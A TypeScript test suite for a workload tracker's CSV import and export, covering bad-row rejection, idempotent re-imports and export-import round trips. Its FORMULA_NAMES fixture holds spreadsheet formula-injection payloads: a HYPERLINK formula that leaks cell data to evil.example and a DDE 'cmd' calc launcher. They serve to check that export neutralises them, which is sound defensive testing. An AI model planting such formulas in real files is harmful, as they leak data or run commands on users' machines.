/**
 * The CSV import and the export, through the store (SQLite always, PostgreSQL when
 * TEST_DATABASE_URL is set): the sample file, a file with bad rows in both modes, idempotent
 * re-runs, and the round trip export → import into an empty database → export: identical.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/csv/csv.js';
import type { CalendarDate } from '../../src/domain/index.js';
import {
  changesCsv,
  exportJson,
  notesCsv,
  parseImportCsv,
  workloadsCsv,
} from '../../src/import-export/workloads-format.js';
import type { ImportOptions } from '../../src/store/index.js';
import { contextOf, Store } from '../../src/store/store.js';
import { createTestDatabase, engines, type TestDatabase } from '../support/databases.js';

const NOW = new Date('2026-11-22T12:00:00.000Z');
const SAMPLE = join(import.meta.dirname, '../../docs/sample-import.csv');
const LITWARE = '3f0e9a52-7c1d-4b8e-9f21-6a5d4c3b2a10';
const HEADER =
  'tenant_id,tenant_name,customer_name,workload_code,l1_status,delivery_channel,fm_upn,fm_aad_object_id,partner_name,engagement_start_date,estimate,basis';
const T1 = '11111111-2222-4333-8444-555555555555';
const T2 = '22222222-3333-4444-8555-666666666666';
const T3 = '33333333-4444-4555-8666-777777777777';
/** Each begins with a character a spreadsheet reads as the start of a formula (OWASP). */
const FORMULA_NAMES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Contoso")',
  '+1 Partners',
  '-2 Partners',
  '@SUM(A1:A9) Partners',
  "'=already quoted Partners",
  "=cmd|' /C calc'!A0",
];

/** Line numbers in comments: the header is line 1. */
const BAD_FILE = [
  HEADER,
  `${T1},one.onmicrosoft.com,One Ltd,EXO,in_progress,fm,fm@example.com,,,2026-12-10,false,kickoff_meeting`, // 2 good
  `not-a-guid,one.onmicrosoft.com,One Ltd,EXCHANGE,in_progress,fm,fm@example.com,,,,,`, // 3 two bad fields
  `${T1},one.onmicrosoft.com,One Ltd`, // 4 too few fields
  `${T1},one.onmicrosoft.com,One Ltd,SPO,blocked,fm,fm@example.com,,,2026-12-10,false,planned`, // 5 R1
  `${T1},one.onmicrosoft.com,One Ltd,TEAMS,in_progress,fm,fm@example.com,,,2030-01-07,false,planned`, // 6 window
  `${T1},one.onmicrosoft.com,One Ltd,OD,in_progress,fm,fm@example.com,,,2027-02-15,true,`, // 7 R9 shape
  `${T1},one.onmicrosoft.com,One Ltd,EXO,in_progress,fm,fm@example.com,,,2026-12-11,false,planned`, // 8 duplicate
  `${T1},one.onmicrosoft.com,One Ltd,INTUNE,in_progress,fm,,,,,,`, // 9 no FM
  `${T2},two.onmicrosoft.com,"Two, ""the second""`, // 10 good, quoted name across two lines
  `line",PBI,in_progress,frp,,,Adatum Consulting,2027-01-01,true,estimated`, // 11
  `${T1},one.onmicrosoft.com,One Ltd,AADP,in_progress,fm,fm@example.com,,,2026-10-01,true,estimated`, // 12 past month
  `${T1},one.onmicrosoft.com,One Ltd,WIN,in_progress,fm,fm@example.com,,,2027-01-01,true,kickoff_meeting`, // 13 R9 basis
].join('\r\n');

const BAD_LINES = [3, 4, 5, 6, 7, 8, 9, 12, 13];

describe('parsing an import file', () => {
  it('rejects each bad row with its line and every problem, and keeps the good ones', () => {
    const parsed = parseImportCsv(BAD_FILE);
    if (!parsed.ok) throw new Error(parsed.problems.join());
    expect(parsed.rows.map((r) => r.line)).toEqual([2, 5, 6, 10, 12, 13]);
    expect(parsed.rejected).toEqual([
      {
        line: 3,
        problems: [
          { column: 'tenant_id', message: 'must be a GUID (the Microsoft 365 tenant id)' },
          { column: 'workload_code', message: expect.stringContaining('must be one of EXO') },
        ],
      },
      { line: 4, problems: [{ column: '(row)', message: 'has 3 field(s), the header has 12' }] },
      {
        line: 7,
        problems: [
          {
            column: 'engagement_start_date',
            message: 'an estimate is the first day of its month (R9), e.g. 2027-03-01',
          },
        ],
      },
      {
        line: 8,
        problems: [
          {
            column: 'workload_code',
            message: 'the same workload as line 2, once is enough (one row per L1 status)',
          },
        ],
      },
      { line: 9, problems: [{ column: 'fm_upn', message: 'is required for an FM' }] },
    ]);
    expect(parsed.rows.find((r) => r.line === 10)).toMatchObject({
      tenant: { id: T2, customerName: 'Two, "the second"\r\nline' },
      channel: { type: 'frp', partnerName: 'Adatum Consulting' },
      esd: { date: '2027-01-01', estimate: true, basis: 'estimated' },
    });
  });

  it('reads portal labels, any column order, and ignores columns it does not know', () => {
    const parsed = parseImportCsv(
      [
        'Notes,L1_Status,workload_code,tenant_id,customer_name,tenant_name,fm_upn',
        `anything,Duplicate/Invalid,teams,${T1.toUpperCase()},One,one.onmicrosoft.com,FM@Example.com`,
      ].join('\n'),
    );
    expect(parsed).toMatchObject({
      ok: true,
      ignored: ['Notes'],
      rows: [
        {
          tenant: { id: T1 },
          code: 'TEAMS',
          l1Status: 'duplicate_invalid',
          channel: { type: 'fm', fm: { upn: 'fm@example.com', aadObjectId: null } },
          esd: null,
        },
      ],
    });
  });

  it.each([
    ['', /empty/],
    ['tenant_id,tenant_name\r\n', /customer_name is missing/],
    [`${HEADER},basis\r\n`, /basis appears twice/],
    [`${HEADER}\r\n"unclosed`, /line 2: a quoted field is never closed/],
  ])('refuses a file that cannot be read as a whole (%#)', (text, message) => {
    const parsed = parseImportCsv(text);
    expect(parsed.ok).toBe(false);
    expect(parsed.ok ? [] : parsed.problems.join('\n')).toMatch(message);
  });
});

describe.each(engines)('import and export on %s', (engine) => {
  let database: TestDatabase;
  let store: Store;
  const extra: TestDatabase[] = [];

  async function open(target = database.target) {
    return Store.open(target, { now: () => NOW });
  }
  async function freshStore() {
    const db = await createTestDatabase(engine);
    extra.push(db);
    return open(db.target);
  }
  async function count(
    s: Store,
    table: 'tenants' | 'workloads' | 'esd_changes' | 'status_notes' | 'outbox',
  ) {
    const row = await contextOf(s)
      .db.selectFrom(table)
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    return Number(row.n);
  }
  async function counts(s: Store) {
    return {
      tenants: await count(s, 'tenants'),
      workloads: await count(s, 'workloads'),
      changes: await count(s, 'esd_changes'),
      notes: await count(s, 'status_notes'),
      outbox: await count(s, 'outbox'),
    };
  }
  function importText(s: Store, text: string, options: Partial<ImportOptions> = {}) {
    const parsed = parseImportCsv(text);
    if (!parsed.ok) throw new Error(parsed.problems.join('\n'));
    return s.importWorkloadRows(parsed.rows, {
      fileName: 'file.csv',
      continueOnError: false,
      invalidRows: parsed.rejected.length,
      ...options,
    });
  }

  beforeEach(async () => {
    database = await createTestDatabase(engine);
    store = await open();
  });
  afterEach(async () => {
    await store?.close();
    await database?.drop();
    for (const db of extra.splice(0)) await db.drop();
  });

  it('imports the sample file through the write path: rules, history, notes, no messages', async () => {
    const outcome = await importText(store, readFileSync(SAMPLE, 'utf8'), {
      fileName: '/some/where/sample-import.csv',
    });
    expect(outcome).toEqual({
      committed: true,
      accepted: 7,
      datesWritten: 3,
      datesUnchanged: 0,
      rejected: [],
    });
    expect(await counts(store)).toEqual({
      tenants: 3,
      workloads: 7,
      changes: 3,
      notes: 3,
      outbox: 0,
    });
    const litware = await store.tenantWithWorkloads(LITWARE);
    expect(litware?.tenant.customerName).toBe('Litware, Inc.');
    const teams = litware?.workloads.find((w) => w.code === 'TEAMS');
    expect(teams).toMatchObject({
      l1Status: 'in_progress',
      esd: { date: '2027-03-01', estimate: true },
      basis: 'estimated',
      channel: { type: 'fm', fm: { upn: 'ana.silva@example.com' } },
    });
    const [change] = await store.workloadHistory(teams?.id as string);
    expect(change).toMatchObject({
      old: null,
      actorName: 'esd-bot import',
      role: 'gateway',
      source: 'import',
      reason: 'Imported from sample-import.csv line 3',
    });
    const notes = await store.statusNotes(LITWARE);
    expect(notes.map((n) => n.text)).toContainEqual(
      expect.stringContaining('Reason: Imported from sample-import.csv line 2'),
    );
    expect((await store.getTenant('9b7c2d41-0e3f-4a5b-8c6d-7e8f9a0b1c2d'))?.customerName).toBe(
      'Proseware "PW" Ltd',
    );
  });

  it('a second run of the same file writes nothing', async () => {
    const text = readFileSync(SAMPLE, 'utf8');
    await importText(store, text);
    const before = await counts(store);
    const versions = (await store.tenantWorkloads(LITWARE)).map((w) => w.version);
    const again = await importText(store, text);
    expect(again).toMatchObject({
      committed: true,
      accepted: 7,
      datesWritten: 0,
      datesUnchanged: 3,
    });
    expect(await counts(store)).toEqual(before);
    expect((await store.tenantWorkloads(LITWARE)).map((w) => w.version)).toEqual(versions);
  });

  it('a changed date on a re-run is one more change, with its reason', async () => {
    await importText(store, readFileSync(SAMPLE, 'utf8'));
    const moved = readFileSync(SAMPLE, 'utf8').replace('2027-01-18', '2027-01-25');
    const outcome = await importText(store, moved, { fileName: 'services-2.csv' });
    expect(outcome).toMatchObject({ datesWritten: 1, datesUnchanged: 2 });
    const exo = (await store.tenantWorkloads(LITWARE)).find((w) => w.code === 'EXO');
    const history = await store.workloadHistory(exo?.id as string);
    expect(history.map((c) => [c.old?.date ?? null, c.new.date, c.reason])).toEqual([
      ['2027-01-18', '2027-01-25', 'Imported from services-2.csv line 2'],
      [null, '2027-01-18', 'Imported from file.csv line 2'],
    ]);
  });

  it('one transaction per file: a file with bad rows writes nothing and names every bad row', async () => {
    const parsed = parseImportCsv(BAD_FILE);
    if (!parsed.ok) throw new Error('unreadable');
    const outcome = await importText(store, BAD_FILE);
    expect(outcome.committed).toBe(false);
    expect(outcome.accepted).toBe(0);
    // The rules' rejections (the parse rejections are the caller's to report).
    expect(
      outcome.rejected.map((r) => [
        r.line,
        r.kind === 'rules' ? r.violations.map((v) => v.code) : r.kind,
      ]),
    ).toEqual([
      [5, ['status_ineligible']],
      [6, ['date_out_of_window']],
      [12, ['estimate_month_past']],
      [13, ['basis_not_estimate']],
    ]);
    const all = [...parsed.rejected.map((r) => r.line), ...outcome.rejected.map((r) => r.line)];
    expect(all.sort((a, b) => a - b)).toEqual(BAD_LINES);
    expect(await counts(store)).toEqual({
      tenants: 0,
      workloads: 0,
      changes: 0,
      notes: 0,
      outbox: 0,
    });
  });

  it('--continue-on-error: the bad rows are skipped, each on its own, the good ones kept', async () => {
    const outcome = await importText(store, BAD_FILE, { continueOnError: true, batchSize: 2 });
    expect(outcome.committed).toBe(true);
    expect(outcome.accepted).toBe(2);
    expect(outcome.datesWritten).toBe(2);
    expect(outcome.rejected.map((r) => r.line)).toEqual([5, 6, 12, 13]);
    const one = await store.tenantWithWorkloads(T1);
    // Nothing of a rejected row remains, not even its workload.
    expect(one?.workloads.map((w) => [w.code, w.esd?.date ?? null])).toEqual([
      ['EXO', '2026-12-10'],
    ]);
    expect((await store.getTenant(T2))?.customerName).toBe('Two, "the second"\r\nline');
    expect(await counts(store)).toMatchObject({ tenants: 2, workloads: 2, changes: 2, notes: 2 });
  });

  it('round trip: export, import into an empty database, export again: identical', async () => {
    await store.seedDemoData();
    // Names with a comma, quotes and a line break, and an unassigned workload.
    await store.registerTenant(
      { id: T2, name: 'fabrikam-mx.onmicrosoft.com', customerName: 'Fabrikam, S.A. "FAB"\nMéxico' },
      [
        { code: 'EXO', l1Status: 'status_unknown', channel: { type: 'unassigned' } },
        {
          code: 'SPO',
          l1Status: 'in_progress',
          channel: { type: 'fm', fm: { upn: 'Ana@Example.com', aadObjectId: null } },
        },
        // Issue 15, point 6: a split over three L1 statuses, Target Dates and L2 reasons.
        {
          code: 'TEAMS',
          l1Status: 'in_progress',
          entitlements: [
            { l1Status: 'no_intent', seats: 0, targetDate: null, l2Reason: null },
            {
              l1Status: 'blocked',
              seats: 1000,
              targetDate: '2027-09-30' as CalendarDate,
              l2Reason: 'Cloud Trust (Security/Compliance), "France"',
            },
            {
              l1Status: 'in_progress',
              seats: 4000,
              targetDate: '2027-06-30' as CalendarDate,
              l2Reason: 'Migration',
            },
          ],
          channel: { type: 'fm', fm: { upn: 'Ana@Example.com', aadObjectId: null } },
        },
      ],
    );
    // Names a spreadsheet would run as formulas (issue 13, item 4): neutralized on the way out,
    // restored exactly on the way in; one already begins with a quote.
    await store.registerTenant(
      { id: T3, name: 'tailspin.onmicrosoft.com', customerName: FORMULA_NAMES[0] as string },
      FORMULA_NAMES.slice(1).map((partner, i) => ({
        code: (['EXO', 'SPO', 'TEAMS', 'OD', 'PBI', 'INTUNE'] as const)[i] ?? 'EXO',
        l1Status: 'in_progress',
        channel: { type: 'frp' as const, partnerName: partner },
      })),
    );
    const first = workloadsCsv(await store.exportSnapshot());
    expect(parseCsv(first).length).toBe(1 + 16 + 2 + 3 + FORMULA_NAMES.length - 1);
    for (const name of FORMULA_NAMES) {
      expect(first).toContain(`"'${name.replaceAll('"', '""')}"`);
      // No cell of the file begins with a formula character.
      for (const record of parseCsv(first))
        for (const field of record.fields) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    }

    const empty = await freshStore();
    try {
      const outcome = await importText(empty, first, { fileName: 'export.csv' });
      expect(outcome).toMatchObject({
        committed: true,
        accepted: 19 + FORMULA_NAMES.length - 1,
        rejected: [],
      });
      const teams = (await empty.tenantWorkloads(T2)).find((w) => w.code === 'TEAMS');
      expect(teams?.entitlements?.map((l) => [l.l1Status, l.seats, l.targetDate])).toEqual([
        ['in_progress', 4000, '2027-06-30'],
        ['blocked', 1000, '2027-09-30'],
        ['no_intent', 0, null],
      ]);
      expect((await empty.getTenant(T3))?.customerName).toBe(FORMULA_NAMES[0]);
      const second = workloadsCsv(await empty.exportSnapshot());
      expect(second).toBe(first);
      // And importing the export again changes nothing.
      const again = await importText(empty, second);
      expect(again.datesWritten).toBe(0);
    } finally {
      await empty.close();
    }
  });

  it('R3: an import of existing engagements stays exempt: In Progress without a date is accepted', async () => {
    const file = [
      HEADER,
      `${T1},one.onmicrosoft.com,One Ltd,EXO,in_progress,fm,fm@example.com,,,,,`,
    ].join('\n');
    expect(await importText(store, file)).toMatchObject({
      committed: true,
      accepted: 1,
      rejected: [],
    });
    expect((await store.tenantWorkloads(T1))[0]).toMatchObject({
      l1Status: 'in_progress',
      esd: null,
    });
  });

  it('split entitlements: one row per line; the old format keeps a split it agrees with', async () => {
    const header = `${HEADER},seats,target_date,l2_reason`;
    const split = [
      header,
      `${T1},one.onmicrosoft.com,One Ltd,SPO,In Progress,fm,fm@example.com,,,2026-12-10,false,planned,80,2027-06-30,Migration`,
      `${T1},one.onmicrosoft.com,One Ltd,SPO,Blocked,fm,fm@example.com,,,2026-12-10,false,planned,20,,"Cloud Trust"`,
    ].join('\n');
    const outcome = await importText(store, split);
    expect(outcome).toMatchObject({ committed: true, accepted: 1, datesWritten: 1, rejected: [] });
    const [spo] = await store.tenantWorkloads(T1);
    expect(spo?.l1Status).toBe('in_progress');
    expect(spo?.entitlements).toEqual([
      { l1Status: 'in_progress', seats: 80, targetDate: '2027-06-30', l2Reason: 'Migration' },
      { l1Status: 'blocked', seats: 20, targetDate: null, l2Reason: 'Cloud Trust' },
    ]);
    // The old format (no line columns) saying In Progress again changes nothing.
    const old = [
      HEADER,
      `${T1},one.onmicrosoft.com,One Ltd,SPO,in_progress,fm,fm@example.com,,,2026-12-10,false,planned`,
    ].join('\n');
    const before = await counts(store);
    expect(await importText(store, old)).toMatchObject({ committed: true, rejected: [] });
    expect(await counts(store)).toEqual(before);
    expect((await store.tenantWorkloads(T1))[0]?.entitlements).toEqual(spo?.entitlements);
  });

  it('split entitlements: a split without seat counts, an L1 twice, or lines that disagree are refused whole', () => {
    const header = `${HEADER},seats,target_date,l2_reason`;
    const row = (code: string, status: string, seats: string, date = '2026-12-10') =>
      `${T1},one.onmicrosoft.com,One Ltd,${code},${status},fm,fm@example.com,,,${date},false,planned,${seats},,`;
    const parsed = parseImportCsv(
      [
        header,
        row('SPO', 'in_progress', '80'), // 2
        row('SPO', 'blocked', ''), // 3: no seats in a split
        row('EXO', 'in_progress', '5'), // 4
        row('EXO', 'in_progress', '6'), // 5: the same L1 twice
        row('OD', 'in_progress', '5'), // 6
        row('OD', 'blocked', '5', '2026-12-11'), // 7: another date on another line
        row('PBI', 'in_progress', '7'), // 8: fine alone
      ].join('\n'),
    );
    if (!parsed.ok) throw new Error(parsed.problems.join('\n'));
    expect(parsed.rows.map((r) => [r.code, r.entitlements])).toEqual([
      ['EXO', [{ l1Status: 'in_progress', seats: 5, targetDate: null, l2Reason: null }]],
      ['PBI', [{ l1Status: 'in_progress', seats: 7, targetDate: null, l2Reason: null }]],
    ]);
    expect(parsed.rejected.map((r) => [r.line, r.problems[0]?.column])).toEqual([
      [2, 'seats'],
      [5, 'workload_code'],
      [6, '(row)'],
      [7, '(row)'],
    ]);
  });

  it('exports everything: JSON with workloads, changes and notes per tenant; CSV history files', async () => {
    await store.seedDemoData();
    const snapshot = await store.exportSnapshot();
    const json = JSON.parse(exportJson(snapshot)) as {
      format: string;
      tenants: {
        id: string;
        workloads: { code: string; esd: unknown }[];
        changes: { workloadCode: string; reason: string; noteId: number }[];
        notes: { id: number; text: string }[];
      }[];
    };
    expect(json.format).toBe('esd-bot-export');
    expect(json.tenants).toHaveLength(5);
    const all = await counts(store);
    expect(json.tenants.flatMap((t) => t.workloads)).toHaveLength(all.workloads);
    expect(json.tenants.flatMap((t) => t.changes)).toHaveLength(all.changes);
    expect(json.tenants.flatMap((t) => t.notes)).toHaveLength(all.notes);
    const contoso = json.tenants.find((t) => t.id === '6f1c2a10-0000-4000-8000-00000000c0a1');
    expect(contoso?.changes.map((c) => [c.workloadCode, c.reason])).toEqual([
      ['EXO', 'Date the customer gave in the Gateway conversation (demo data).'],
      ['EXO', 'Customer asked by email to start on Thursday instead.'],
      ['TEAMS', 'Date the customer gave in the Gateway conversation (demo data).'],
    ]);
    // Every change points at its note, and the note is in the export.
    const noteIds = new Set(json.tenants.flatMap((t) => t.notes.map((n) => n.id)));
    expect(json.tenants.flatMap((t) => t.changes).every((c) => noteIds.has(c.noteId))).toBe(true);

    const changes = parseCsv(changesCsv(snapshot));
    expect(changes[0]?.fields.slice(0, 4)).toEqual([
      'id',
      'tenant_id',
      'workload_id',
      'workload_code',
    ]);
    expect(changes).toHaveLength(1 + all.changes);
    const notes = parseCsv(notesCsv(snapshot));
    expect(notes).toHaveLength(1 + all.notes);
    expect(notes.map((r) => r.fields[5])).toContain(
      (await store.statusNotes('6f1c2a10-0000-4000-8000-00000000c0a1'))[0]?.text,
    );
  });

  it('R3: an empty date in the file never clears a date', async () => {
    await importText(store, readFileSync(SAMPLE, 'utf8'));
    const undated = readFileSync(SAMPLE, 'utf8').replace('2027-01-18,false,kickoff_meeting', ',,');
    const outcome = await importText(store, undated);
    expect(outcome.datesWritten).toBe(0);
    const exo = (await store.tenantWorkloads(LITWARE)).find((w) => w.code === 'EXO');
    expect(exo?.esd?.date).toBe('2027-01-18' as CalendarDate);
  });
});
